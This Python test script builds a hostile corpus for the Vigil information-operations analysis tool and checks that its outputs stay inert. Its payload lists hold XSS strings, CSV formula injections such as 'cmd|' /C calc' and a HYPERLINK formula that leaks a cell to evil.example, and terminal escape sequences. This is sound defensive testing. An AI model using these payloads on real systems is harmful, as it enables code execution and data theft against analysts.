#!/usr/bin/python3
"""The hostile corpus: Vigil run on data an operation wrote to attack the people who read Vigil's outputs.

Builds a corpus from the example case (examples/carney-2025) and the CooRTweet sample (shared data), with
attacker strings in the fields an operation controls: titles, texts, account names and ids, URLs, the
actor's name and notes, the event labels and a target's own page (targets[].accounts) of the watch file,
comments on that page (reply_to) from formula-named accounts, coordination account ids; and counts near
INT64_MAX, invalid UTF-8, quotes, commas and line breaks. Runs `vigil ingest`, `analyze`, `convert` and
`coord` on it, then checks every file they wrote:

  - HTML is parsed with an HTML parser (python3's html.parser) and Markdown rendered by GitHub's renderer
    with raw HTML allowed (cmark-gfm --unsafe) and parsed likewise: no script, iframe, object, embed, base or
    meta-refresh element, no on* handler, no href / src / action that is not an http(s) link;
  - every CSV parses (RFC 4180, strict) with its header's field count on every row; the CSVs written for
    spreadsheets (notification-*.csv, communities.csv) hold no cell a spreadsheet would evaluate;
  - every file is valid UTF-8; JSON and JSON Lines parse; GraphML and GEXF are well-formed XML; the STIX
    bundle and the MISP events pass tests/stix/validate_stix.py and tests/misp/validate_misp.py;
  - no interaction count in report.json is negative;
  - every input file is byte-identical afterwards (SHA-256 before and after).

It also checks that the attack reached the outputs (the payloads appear, as text), so the test cannot pass
by the payloads being dropped, and first runs each checker on a known-bad sample to show it can fail.

Cases are data: CASES lists each command with its inputs, outputs and accepted exit codes; a new class of
hostile input is a new payload in build_corpus() or a new entry in CASES.

Usage: hostile.py --vigil BIN --source DIR --work DIR   (exit 0 pass, 1 fail, 77 skipped outside CI)
"""
import argparse
import csv
import hashlib
import html.parser
import io
import json
import os
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ElementTree

SKIP = 77
NOW = "2025-04-05T12:00:00Z"
INT64_MAX = 2**63 - 1
RENDERER = "/usr/bin/cmark-gfm"

SCRIPT_TITLES = [
    "<script>alert('title')</script>",
    "[click](javascript:alert('md-link'))",
    "![x](javascript:alert('md-image')) <img src=x onerror=alert('img')>",
    "| forged | table |\n| --- | --- |",
    "<a href=\"javascript:alert('a')\">anchor</a> &lt;b&gt;",
    "\"quoted\", with commas,\r\nand a line break",
]
HOSTILE_URLS = [
    "javascript:alert('url')",
    "JaVaScRiPt:alert(document.domain)",
    " javascript:alert('space')",
    "java\tscript:alert('tab')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox('vb')",
    "//evil.example/protocol-relative",
    "javascript&#58;alert('entity')",
    "https://ok.example/\" onmouseover=\"alert('attr')",
]
FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
]
HUGE_COUNT_POST = "ylym-20250310-2"  # an evidence post of the Carney incident
# The escape sequences retitle the analyst's terminal window and erase the line if printed raw.
ACTOR_NAME = ("有理儿有面 <img src=x onerror=alert('actor')> [a](javascript:alert('actor'))"
              " \x1b]0;owned\x07\x1b[2K\u009b31m")
ACTOR_NOTES = "<script>alert('notes')</script> | =1+1 |"
EVENT_LABEL = "</text><script>alert('event')</script> Mark Carney wins the Liberal leadership"
FORMULA_GROUP = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/group\")"]
# A target's own page (targets[].accounts) named as an operation would name its account, and the comments left
# on it (reply_to) by accounts the corpus gives formula names: a reply burst within one hour, twice, a day apart.
TARGET_PAGE = "=HYPERLINK(\"http://evil.example/page\")<script>alert('page')</script>"
REPLIER_NAMES = ["=cmd|' /C calc'!A0 <b>replier</b>", "<img src=x onerror=alert('replier')>"]
REPLY_BURST_START = "2025-03-26T14:%02d:00-04:00"
NEXT_DAY_BURST_START = "2025-03-27T14:%02d:00-04:00"
COORD_ACCOUNTS = ["=HYPERLINK(\"http://evil.example\")", "\"quoted\",comma", "+cmd|' /C calc'!A0", "@SUM(1)",
                  "-1001234567890", "line\nbreak", "<script>alert('coord')</script>"]


# ---- The corpus -------------------------------------------------------------------------------------------

def build_corpus(source, shared, corpus):
    example = os.path.join(source, "examples", "carney-2025")
    os.makedirs(corpus, exist_ok=True)
    write_posts_jsonl(os.path.join(example, "posts.jsonl"), os.path.join(corpus, "posts.jsonl"))
    write_posts_csv(os.path.join(example, "posts-other.csv"), os.path.join(corpus, "posts-other.csv"))
    write_watch(os.path.join(example, "watch.yaml"), os.path.join(corpus, "watch.yaml"))
    write_shares(os.path.join(shared, "coortweet-sample", "german_elections_urls.csv"), os.path.join(corpus, "shares.csv"))
    write_twitter_io(os.path.join(source, "tests", "data", "adapters", "twitter_io_sample.csv"),
                     os.path.join(corpus, "twitter_io.csv"))


def write_posts_jsonl(source, target):
    """The operation's own posts carry the payloads in titles, URLs and names; one claims a huge count."""
    actor_posts = amplifiers = 0
    with open(source, encoding="utf-8") as src, open(target, "w", encoding="utf-8") as out:
        for line in src:
            post = json.loads(line)
            if post["account_id"] == "youli-youmian":
                post["title"] = SCRIPT_TITLES[actor_posts % len(SCRIPT_TITLES)] + " " + post.get("title", "")
                post["url"] = HOSTILE_URLS[actor_posts % len(HOSTILE_URLS)]
                post["account_name"] = ACTOR_NAME
                if post["id"] == HUGE_COUNT_POST:
                    post.setdefault("metrics", {}).update({"likes": INT64_MAX - 1, "shares": 5, "comments": INT64_MAX})
                actor_posts += 1
            elif post["account_id"].startswith("wx-amp-"):
                post["account_name"] = FORMULAS[amplifiers % len(FORMULAS)]
                post["url"] = HOSTILE_URLS[amplifiers % len(HOSTILE_URLS)]
                amplifiers += 1
            out.write(json.dumps(post, ensure_ascii=False) + "\n")


def write_posts_csv(source, target):
    """Vigil-format CSV: formulas, markup, quotes, commas and line breaks, and two rows of invalid UTF-8."""
    with open(source, encoding="utf-8", newline="") as src:
        rows = list(csv.reader(src))
    header, body = rows[0], rows[1:]
    col = {name: i for i, name in enumerate(header)}
    for n, row in enumerate(body[:40]):
        row[col["account_name"]] = FORMULAS[n % len(FORMULAS)] + " " + SCRIPT_TITLES[n % len(SCRIPT_TITLES)]
        row[col["text"]] = SCRIPT_TITLES[(n + 1) % len(SCRIPT_TITLES)] + " " + row[col["text"]]
        row[col["url"]] = HOSTILE_URLS[n % len(HOSTILE_URLS)]
    # Comments on the target's page: twelve X accounts reply to it within the hour, a hostile post id too, and
    # the same accounts again the next day (one burst is chance; two tie them into a network).
    repliers = [row for row in body[42:] if row[col["platform"]] == "x"][:24]
    for n, row in enumerate(repliers):
        first = repliers[n % 12]
        row[col["account_id"]] = first[col["account_id"]]
        row[col["account_name"]] = REPLIER_NAMES[n % len(REPLIER_NAMES)]
        row[col["reply_to"]] = "@" + TARGET_PAGE if n % 3 else "<script>alert('reply')</script>=1+1"
        row[col["published_at"]] = (REPLY_BURST_START if n < 12 else NEXT_DAY_BURST_START) % ((n % 12) * 4)
        row[col["repost_of"]] = ""
    # Invalid UTF-8 in the names of two more rows: a cut multi-byte character and bytes never in UTF-8.
    invalid = {"@@CUT@@": b"\xe5\x8d", "@@NEVER@@": b"\xff\xfe"}
    for row, token in zip(body[40:42], invalid):
        row[col["account_name"]] += token
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows([header] + body)
    data = buffer.getvalue().encode("utf-8")
    for token, raw in invalid.items():
        data = data.replace(token.encode("ascii"), raw)
    with open(target, "wb") as out:
        out.write(data)


def write_twitter_io(source, target):
    """An X information-operations archive (an adapter's format, for `vigil convert`) with hostile fields."""
    with open(source, encoding="utf-8", newline="") as src:
        rows = list(csv.reader(src))
    header, body = rows[0], rows[1:]
    col = {name: i for i, name in enumerate(header)}
    for n, row in enumerate(body):
        if len(row) != len(header):
            continue  # the sample's own malformed rows stay as they are
        row[col["user_display_name"]] = FORMULAS[n % len(FORMULAS)]
        row[col["user_screen_name"]] = SCRIPT_TITLES[n % len(SCRIPT_TITLES)]
        row[col["tweet_text"]] = SCRIPT_TITLES[(n + 1) % len(SCRIPT_TITLES)] + " " + row[col["tweet_text"]]
        row[col["urls"]] = "[%s]" % HOSTILE_URLS[n % len(HOSTILE_URLS)]
    with open(target, "w", encoding="utf-8", newline="") as out:
        csv.writer(out, lineterminator="\n").writerows([header] + body)


def write_watch(source, target):
    """The operator's file, with an actor name, notes and an event label as an operation might suggest them."""
    text = open(source, encoding="utf-8").read()
    text = text.replace("    name: 有理儿有面\n", "    name: %s\n" % json.dumps(ACTOR_NAME, ensure_ascii=False))
    text = re.sub(r"    notes: .*\n", "    notes: %s\n" % json.dumps(ACTOR_NOTES, ensure_ascii=False), text, count=1)
    text = text.replace("label: Mark Carney wins the Liberal leadership",
                        "label: %s" % json.dumps(EVENT_LABEL, ensure_ascii=False))
    text = text.replace("    aliases: [Carney, ", "    accounts: [%s]\n    aliases: [Carney, " %
                        json.dumps("x:" + TARGET_PAGE, ensure_ascii=False), 1)
    assert ACTOR_NAME in text or json.dumps(ACTOR_NAME, ensure_ascii=False) in text
    assert TARGET_PAGE in text or json.dumps("x:" + TARGET_PAGE, ensure_ascii=False) in text
    open(target, "w", encoding="utf-8").write(text)


def write_shares(source, target):
    """CooRTweet's sample plus hostile accounts that co-share hostile objects within seconds."""
    with open(source, encoding="utf-8", newline="") as src:
        rows = list(csv.reader(src))[:5001]
    for burst in range(3):
        for n, account in enumerate(COORD_ACCOUNTS):
            rows.append(["url:https://evil.example/%d\"><script>alert(%d)</script>" % (burst, burst), account,
                         "=content-%d-%d" % (burst, n), str(1700000000 + burst * 1000 + n)])
    # A second group of formula accounts alone, so that a community's member list starts with a formula.
    for burst in range(3):
        for n, account in enumerate(FORMULA_GROUP):
            rows.append(["url:https://evil.example/formula/%d" % burst, account, "formula-%d-%d" % (burst, n),
                         str(1710000000 + burst * 1000 + n)])
    with open(target, "w", encoding="utf-8", newline="") as out:
        csv.writer(out, lineterminator="\n").writerows(rows)


# ---- The runs ---------------------------------------------------------------------------------------------

def cases(work, source):
    corpus, out = os.path.join(work, "corpus"), os.path.join(work, "out")
    data = os.path.join(source, "data")
    store = os.path.join(out, "vigil.db")
    return [
        {"name": "ingest", "exit": {0, 4},
         "args": ["ingest", "--store", store, "--quarantine", os.path.join(out, "quarantine.jsonl"),
                  os.path.join(corpus, "posts.jsonl"), os.path.join(corpus, "posts-other.csv")]},
        {"name": "analyze", "exit": {0},
         "args": ["analyze", "--watch", os.path.join(corpus, "watch.yaml"), "--store", store, "--out",
                  os.path.join(out, "analyze"), "--now", NOW, "--data-dir", data, "--quiet"]},
        {"name": "analyze --csv-bom", "exit": {0},
         "args": ["analyze", "--watch", os.path.join(corpus, "watch.yaml"), "--store", store, "--out",
                  os.path.join(out, "analyze-bom"), "--now", NOW, "--data-dir", data, "--csv-bom", "--quiet"]},
        {"name": "convert", "exit": {0, 4},
         "args": ["convert", "--in", os.path.join(corpus, "twitter_io.csv"), "--out",
                  os.path.join(out, "convert", "posts.jsonl"), "--rejects", os.path.join(out, "convert", "rejects.jsonl")]},
        {"name": "coord (share file)", "exit": {0, 4},
         "args": ["coord", os.path.join(corpus, "shares.csv"), "-o", os.path.join(out, "coord"), "--min-participation", "1",
                  "--csv-bom"]},
        {"name": "coord (store)", "exit": {0, 4},
         "args": ["coord", "--store", store, "-o", os.path.join(out, "coord-store"), "--min-participation", "1"]},
    ]


def run_cases(vigil, work, source):
    problems = []
    os.makedirs(os.path.join(work, "out", "convert"), exist_ok=True)
    for case in cases(work, source):
        result = subprocess.run([vigil] + case["args"], capture_output=True, timeout=600)
        if result.returncode not in case["exit"]:
            problems.append("%s: exit %d (expected %s): %s" % (case["name"], result.returncode, sorted(case["exit"]),
                                                               result.stderr.decode("utf-8", "replace")[-600:]))
        for stream, data in (("stdout", result.stdout), ("stderr", result.stderr)):
            if b"\x1b" in data or b"\xc2\x9b" in data:
                problems.append("%s: a terminal control sequence from the data reached %s" % (case["name"], stream))
    return problems


# ---- The checks -------------------------------------------------------------------------------------------

LIVE_ELEMENTS = {"script", "iframe", "object", "embed", "base", "frame", "applet"}
LINK_ATTRIBUTES = {"href", "src", "xlink:href", "action", "formaction", "srcset", "poster", "data", "background"}
LINKABLE = re.compile(r"^[hH][tT][tT][pP][sS]?://[^/?#\s]")
FORBIDDEN_IN_LINK = re.compile(r"[\x00-\x20\x7f\"<>\\^`{|}]")
PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def is_linkable(url):
    """The same rule as common/link_url.h: http(s), a host, no character that reads differently in a context."""
    return bool(LINKABLE.match(url)) and not FORBIDDEN_IN_LINK.search(url)


class LiveContent(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.findings = []

    def handle_starttag(self, tag, attrs):
        if tag in LIVE_ELEMENTS:
            self.findings.append("<%s> element" % tag)
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.findings.append("<%s %s=%r>: event handler" % (tag, name, value))
            if name in LINK_ATTRIBUTES and not is_linkable(value):
                self.findings.append("<%s %s=%r>: not an http(s) link" % (tag, name, value))
            if name == "style" and re.search(r"url\(|expression\(", value, re.I):
                self.findings.append("<%s style=%r>" % (tag, value))
            if tag == "meta" and name == "http-equiv" and value.lower() == "refresh":
                self.findings.append("<meta http-equiv=refresh>")


def live_html(text):
    parser = LiveContent()
    parser.feed(text)
    parser.close()
    return parser.findings


def render_markdown(text):
    result = subprocess.run([RENDERER, "--unsafe", "-e", "table", "-e", "autolink", "-e", "strikethrough"],
                            input=text.encode("utf-8"), capture_output=True, check=True)
    return result.stdout.decode("utf-8")


def is_formula(cell):
    if cell[:1] in ("\t", "\r"):
        return True
    stripped = cell.lstrip(" \t\r\n")
    return stripped[:1] in ("=", "+", "-", "@") and not PLAIN_NUMBER.match(stripped)


def csv_problems(name, text, for_spreadsheets):
    problems = []
    if text.startswith("\ufeff"):
        text = text[1:]
    try:
        rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    except csv.Error as error:
        return ["%s: not RFC 4180 CSV: %s" % (name, error)]
    if not rows:
        return problems
    width = len(rows[0])
    for number, row in enumerate(rows[1:], start=2):
        if len(row) != width:
            problems.append("%s: record %d has %d fields, the header %d" % (name, number, len(row), width))
    if for_spreadsheets:
        for row in rows:
            problems += ["%s: formula cell %r" % (name, cell) for cell in row if is_formula(cell)]
    return problems


def negative_interactions(node, path="report"):
    found = []
    if isinstance(node, dict):
        for key, value in node.items():
            if "interactions" in key and isinstance(value, (int, float)) and value < 0:
                found.append("%s/%s = %s" % (path, key, value))
            found += negative_interactions(value, path + "/" + key)
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += negative_interactions(value, "%s/%d" % (path, index))
    return found


def check_file(path, source, root):
    name = os.path.relpath(path, root)
    data = open(path, "rb").read()
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as error:
        return ["%s: invalid UTF-8: %s" % (name, error)]
    base = os.path.basename(path)
    if base.endswith(".html"):
        return ["%s: %s" % (name, f) for f in live_html(text)]
    if base.endswith(".md"):
        return ["%s (rendered): %s" % (name, f) for f in live_html(render_markdown(text))]
    if base.endswith(".csv"):
        return csv_problems(name, text, base.startswith("notification-") or base == "communities.csv")
    if base.endswith(".jsonl"):
        problems = []
        for number, line in enumerate(text.splitlines(), start=1):
            try:
                json.loads(line)
            except ValueError as error:
                problems.append("%s:%d: not JSON: %s" % (name, number, error))
        return problems
    if base.endswith(".json"):
        try:
            document = json.loads(text)
        except ValueError as error:
            return ["%s: not JSON: %s" % (name, error)]
        if base == "report.json":
            return ["%s: negative interactions %s" % (name, f) for f in negative_interactions(document)]
        if base == "stix-bundle.json":
            return validator(source, "tests/stix/validate_stix.py", "--schemas", "stix2-json-schemas", path, name)
        if base.startswith(("misp-event-", "misp-operation-")):
            return validator(source, "tests/misp/validate_misp.py", "--reference", "misp-reference", path, name)
        return []
    if base.endswith((".graphml", ".gexf")):
        try:
            ElementTree.fromstring(data)
        except ElementTree.ParseError as error:
            return ["%s: not well-formed XML: %s" % (name, error)]
    return []


def validator(source, script, flag, data_set, path, name):
    shared = os.environ["VIGIL_SHARED_DATA"]
    result = subprocess.run([sys.executable, os.path.join(source, script), flag, os.path.join(shared, data_set), path],
                            capture_output=True)
    if result.returncode == 0:
        return []
    lines = result.stdout.decode("utf-8", "replace").replace(path + ": ", "").splitlines()
    return ["%s: %s" % (name, line) for line in lines[:20]]


def check_outputs(out, source):
    problems, checked = [], 0
    for folder, _, files in sorted(os.walk(out)):
        for file in sorted(files):
            if file.endswith((".db", ".db-wal", ".db-shm", ".db-journal")):
                continue
            problems += check_file(os.path.join(folder, file), source, out)
            checked += 1
    return checked, problems


def payload_problems(out):
    """The attack must reach the outputs, shown as text: otherwise the checks above prove nothing."""
    def read(relative):
        path = os.path.join(out, relative)
        return open(path, encoding="utf-8-sig").read() if os.path.exists(path) else ""
    expected = [
        ("analyze/briefing.html", "onerror=alert(&#39;actor&#39;)", "the actor's name, escaped"),
        ("analyze/briefing.html", "<code class=\"refused-link\">javascript:", "a refused javascript: link, as text"),
        ("analyze/briefing.html", "&lt;script&gt;alert(", "a <script> title, escaped"),
        ("analyze/report.md", "&lt;img src=x onerror=alert('actor')&gt;", "the actor's name, escaped"),
        ("analyze/notification-wechat.csv", "'=HYPERLINK(", "an amplifier's formula name, neutralised"),
        ("analyze/notification-wechat.md", "\\[click\\](javascript:", "a Markdown link title, escaped"),
        ("analyze/report.json", str(INT64_MAX), "the saturated interaction count"),
        ("analyze/report.json", "replyto:x:@=HYPERLINK(\\\"http://evil.example/page",
         "the comments on the target's page, as what a network co-acted on"),
        ("analyze-bom/notification-wechat.csv", "incident_id,", "the CSV for Excel"),
        ("coord/communities.csv", "'=HYPERLINK(\"\"http://evil.example/group", "a formula member list, neutralised"),
        ("coord/network_vertices.csv", "=HYPERLINK(", "the same account kept as it is for tools"),
    ]
    problems = ["%s lacks %s (%r)" % (relative, what, needle) for relative, needle, what in expected
                if needle not in read(relative)]
    bom_csv = os.path.join(out, "analyze-bom", "notification-wechat.csv")
    if not os.path.exists(bom_csv) or open(bom_csv, "rb").read(3) != b"\xef\xbb\xbf":
        problems.append("analyze-bom/notification-wechat.csv does not start with a UTF-8 byte-order mark")
    return problems


def self_test():
    """Each checker must be able to fail."""
    failures = []
    if not live_html("<p><a href='javascript:alert(1)'>x</a><img src=x onerror=alert(1)></p>"):
        failures.append("the HTML check passed a javascript: link and an onerror handler")
    if not live_html(render_markdown("[x](javascript:alert(1)) <script>alert(1)</script>")):
        failures.append("the Markdown check passed a javascript: link")
    if not csv_problems("sample", "a,b\n=1+1,2\n", True):
        failures.append("the CSV check passed a formula cell")
    if not csv_problems("sample", "a,b\n\"x,y\n", False):
        failures.append("the CSV check passed an unterminated quote")
    if not negative_interactions({"interactions": -4}):
        failures.append("the count check passed a negative count")
    return failures


def digests(folder):
    result = {}
    for root, _, files in os.walk(folder):
        for file in files:
            path = os.path.join(root, file)
            result[path] = hashlib.sha256(open(path, "rb").read()).hexdigest()
    return result


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--vigil", required=True)
    parser.add_argument("--source", required=True, help="the project root")
    parser.add_argument("--work", required=True, help="a scratch folder (emptied first)")
    args = parser.parse_args()
    shared = os.environ.get("VIGIL_SHARED_DATA") or os.path.join(args.source, "..", "shared", "data")
    missing = [p for p in (os.path.join(shared, "coortweet-sample"), RENDERER) if not os.path.exists(p)]
    if missing:
        if os.environ.get("CI") == "true":
            print("missing in CI: %s" % ", ".join(missing))
            return 1
        print("skipped: missing %s" % ", ".join(missing))
        return SKIP
    os.environ["VIGIL_SHARED_DATA"] = os.path.abspath(shared)
    failures = self_test()
    shutil.rmtree(args.work, ignore_errors=True)
    corpus = os.path.join(args.work, "corpus")
    build_corpus(args.source, shared, corpus)
    before = digests(corpus)
    failures += run_cases(args.vigil, args.work, args.source)
    checked, problems = check_outputs(os.path.join(args.work, "out"), args.source)
    failures += problems
    failures += payload_problems(os.path.join(args.work, "out"))
    after = digests(corpus)
    failures += ["input changed: %s" % path for path in sorted(before) if before[path] != after.get(path)]
    for failure in failures:
        print("FAIL " + failure)
    print("hostile corpus: %d output files checked, %d input files unchanged, %d problem(s)"
          % (checked, sum(before[p] == after.get(p) for p in before), len(failures)))
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
